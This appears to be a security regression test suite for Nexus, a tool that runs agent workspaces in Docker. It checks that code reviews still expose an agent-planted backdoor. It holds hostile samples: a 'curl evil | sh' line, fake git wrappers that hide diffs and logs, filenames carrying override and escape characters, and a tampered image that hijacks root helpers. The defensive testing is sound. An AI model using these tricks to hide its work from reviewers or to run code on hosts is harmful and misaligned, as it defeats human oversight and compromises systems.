/**
 * Attacks on what Nexus shows of a workspace and on what it runs for it. Each row was shown to succeed on the old code.
 *
 * | finding | what the attack did | where it was | since |
 * |---|---|---|---|
 * | B3 | a root helper ran `rm` of an image that the project decides, over all worktrees | lib/backends/docker/as-root.ts | b5a1431 |
 * | B3 | git beside a stopped workspace came from that image, too | lib/backends/docker/git-command.ts | 558e16a |
 * | B6 | a `git` that the agent wrote answered diff, log, compare and list | lib/workspace/git/git-look.ts | 558e16a |
 * | B6 | what is committed and undone in the files was in no diff | lib/workspace/git/review.ts | 0756d64 |
 * | B6 | attributes of the branch took text out of the diff | lib/workspace/git/review.ts | 0756d64 |
 * | partly | a right-to-left override stayed raw, a line break in a name made a line | lib/workspace/git/losses.ts | 66faf1f |
 * | partly | an upload-pack that never answers held `stop` for a minute | lib/tools/git-refs.ts | 558e16a |
 */
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { assert, suite } from '../support/suite.ts'
import { must, openScene, type Scene } from './scene.ts'
import { makeUser } from './users.ts'

const LIMIT_MS = 180_000
const RLO = '\u202e'
const BACKDOOR = 'curl evil | sh'

/** A git for those who look: it has nothing to tell but what upload-pack sends. */
const LIAR = `#!/bin/bash
for a; do [ "$a" = upload-pack ] && exec /usr/bin/git "$@"; done
case "$*" in *diff*|*" log "*|*ls-files*|*status*|*rev-list*) exit 0;; esac
exec /usr/bin/git "$@"
`
/** One that takes its time when commits are to come back. */
const MUTE = `#!/bin/bash
for a; do [ "$a" = upload-pack ] && exec sleep 300; done
exec /usr/bin/git "$@"
`
/** One that never stops talking then. */
const FLOOD = `#!/bin/bash
for a; do [ "$a" = upload-pack ] && { yes "remote: evil" | head -c 60000000 >&2; exit 1; }; done
exec /usr/bin/git "$@"
`

/** Whoever comes over SSH, Nexus too, finds it first. */
const plant = (git: string) =>
  `printf %s "$1" | sudo tee /usr/local/bin/git > /dev/null && sudo chmod 755 /usr/local/bin/git
   ${git}`

/** What an agent leaves, beside the backdoor. */
const WORK = `g=/usr/bin/git
echo '${BACKDOOR}' > x.sh; echo 'y ${BACKDOOR}' > y.js; echo 'z ${BACKDOOR}' > z.js
printf 'y.js -diff\\nz.js binary\\n' > .gitattributes
printf 'evil\\n' > "$(printf 'a\\342\\200\\256b\\nc\\033[31md')"
$g add -A; $g commit -qm "$(printf 'sub\\342\\200\\256ject')"
first=$($g rev-parse HEAD)
echo 'one ${BACKDOOR}' > README.md; $g commit -qam second
$g replace HEAD "$first"
printf '# A project\\n' > README.md
echo open > "$(printf 'u\\342\\200\\256n\\n?? done')"`

async function forge(scene: Scene): Promise<void> {
  await scene.up('a', '--git-mode', 'private')
  await scene.up('b', '--git-mode', 'private')
  await scene.inside('a', 'bash', '-c', plant(WORK), 'bash', LIAR)
}

suite('what a workspace shows of itself', (test) => {
  test(
    'a git of the agent, attributes, files that undo a commit, names and refs hide nothing from a review',
    async () => {
      await using scene = await openScene()
      await forge(scene)
      const found = JSON.parse(await scene.ok(['diff', 'a', '--json']))
      const paths = found.files.map(({ path }: { path: string }) => path).sort()
      assert.equal(paths, ['.gitattributes', 'README.md', `a${RLO}b\nc\u001b[31md`, 'x.sh', 'y.js', 'z.js'])
      assert.is(found.commits.length, 2)
      assert.is(found.dirty, true)
      assert.is(found.commit, await scene.repo.git('rev-parse', 'nexus/a'))

      const diff = await scene.run(['diff', 'a'])
      assert.is(diff.stdout.split(BACKDOOR).length - 1, 4 + 1, diff.stdout)
      assert.match(diff.stdout, /^\+one curl evil/m)
      const stat = await scene.ok(['diff', 'a', '--stat'])
      const log = await scene.ok(['log', 'a'])
      assert.match(log, /second[\s\S]*sub\\u202eject/)
      const both = await scene.ok(['compare', 'a', 'b'])
      assert.match(both, /^a +2 +7 /m)
      for (const text of [diff.stderr, stat, log, both]) assert.not.match(text, /[\u202e\u001b]/)
      assert.is((await scene.list('--dirty')).find(({ name }) => name === 'a')?.dirty, true)
      assert.is(JSON.parse(await scene.ok(['status', 'a', '--json'])).git.untracked, 1)

      const refusal = await scene.run(['delete', 'a'])
      assert.is(refusal.code, 4)
      assert.match(refusal.stderr, /\?\? u\\u202en\\u000a\?\? done/)
      assert.not.match(refusal.stderr, /\u202e|^ *\|? *\?\? done/m)
      await mergeAsTold(scene)
    },
    LIMIT_MS,
  )

  test(
    'a git inside that is silent, or says too much, holds nothing up for long',
    async () => {
      await using scene = await openScene()
      await Promise.all(['mute', 'loud'].map((name) => scene.up(name, '--git-mode', 'private')))
      const commit = plant('/usr/bin/git commit -q --allow-empty -m more')
      const told = await Promise.all([
        timed(scene.run(['exec', 'mute', '--', 'bash', '-c', commit, 'bash', MUTE])),
        timed(scene.run(['exec', 'loud', '--', 'bash', '-c', commit, 'bash', FLOOD])),
      ])
      for (const { ms, result } of told) {
        assert.is(result.code, 0, result.stderr)
        assert.ok(ms < 40_000, `${ms} ms`)
        assert.match(result.stderr, /did not come back/)
        assert.ok(result.stderr.length < 64 * 1024, `${result.stderr.length} characters`)
      }
      assert.match(told[0]?.result.stderr ?? '', /sent nothing for 20 s/)
    },
    LIMIT_MS,
  )
})

async function timed<T>(work: Promise<T>): Promise<{ readonly ms: number; readonly result: T }> {
  const began = performance.now()
  const result = await work
  return { ms: performance.now() - began, result }
}

/** What was told before is what came in, and stands before the hook that runs when it does. */
async function mergeAsTold(scene: Scene): Promise<void> {
  const hook = join(scene.repo.path, '.git', 'hooks', 'post-merge')
  await writeFile(hook, '#!/bin/sh\necho MERGED >&2\n', { mode: 0o755 })
  const tip = await scene.repo.git('rev-parse', 'nexus/a')
  const { stderr, code } = await scene.run(['merge', 'a'])
  assert.is(code, 0, stderr)
  assert.match(stderr, new RegExp(`nexus/a at ${tip.slice(0, 10)} brings into main:[\\s\\S]*\\+1 -0 {2}x\\.sh`))
  assert.not.match(stderr, /\u202e/)
  const [brings, merged] = ['brings into main', 'MERGED'].map((word) => stderr.indexOf(word))
  assert.ok(merged === -1 || (brings ?? 0) < (merged ?? 0), stderr)
  assert.is(await scene.repo.git('rev-parse', 'HEAD'), tip)
}

/** In the place of each program that a helper might ask for. */
const FAKE = `#!/bin/sh
for place in /nexus-folder /nexus-folder/* /to; do [ -d "$place" ] && echo evil > "$place/PWNED" 2>/dev/null; done
case "$0" in */git) exit 1;; esac
exec "$0.real" "$@"
`
const PROGRAMS = ['/bin/rm', '/usr/bin/find', '/bin/chown', '/usr/bin/git', '/usr/bin/timeout', '/bin/cp']

/** Gives the name of a workspace's image to one of the project's. */
async function replaceImage(scene: Scene, image: string): Promise<void> {
  const folder = join(scene.root, 'evil-image')
  await must(['mkdir', '-p', folder])
  await writeFile(join(folder, 'fake'), FAKE, { mode: 0o755 })
  const swap = PROGRAMS.map((path) => `mv ${path} ${path}.real && /bin/dd status=none if=/fake of=${path}`).join(' && ')
  await writeFile(
    join(folder, 'Dockerfile'),
    `FROM ${image}\nUSER root\nCOPY fake /fake\nRUN ${swap}\nRUN chmod 755 ${PROGRAMS.join(' ')}\n`,
  )
  await must(['docker', 'build', '--quiet', '--tag', image, folder])
}

suite('helpers', (test) => {
  test(
    'run nothing of an image that a project made, whatever it is called',
    async () => {
      await using user = await makeUser({ inDockerGroup: true })
      await using scene = await openScene({ user })
      await scene.up('mine')
      const { id } = await scene.up('evil', '--git-mode', 'private')
      const record = JSON.parse(
        await readFile(join(scene.home, '.nexus', 'workspaces', id, 'workspace.json'), 'utf8'),
      ) as { docker: { image: string } }
      await scene.inside('evil', 'bash', '-ec', 'mkdir -p d/e && sudo chown -R root:root d && sudo chmod 700 d')
      const [container = ''] = (
        await must(['docker', 'ps', '-q', '--filter', `label=dev.nexus.workspace=${id}`])
      ).split('\n')
      const tree = join(scene.repo.path, '.worktree', 'evil')
      const late = 'git commit -q --allow-empty -m late'
      await must(['docker', 'exec', '--user', 'nexus', '--workdir', tree, container, 'sh', '-c', late])
      await must(['docker', 'stop', '--time', '1', container])
      await replaceImage(scene, record.docker.image)

      // git beside the files of one that does not run
      const pulled = await scene.run(['pull', 'evil', '--json'])
      // files of root
      await scene.ok(['delete', 'evil', '--force', '--no-trash', '--delete-branch'])
      const marks = await must(['find', scene.root, '-name', 'PWNED'])
      assert.equal([pulled.code, JSON.parse(pulled.stdout).commits, marks], [0, 1, ''])
      assert.is(await scene.repo.git('-C', join(scene.repo.path, '.worktree', 'mine'), 'status', '--porcelain'), '')
    },
    LIMIT_MS,
  )
})
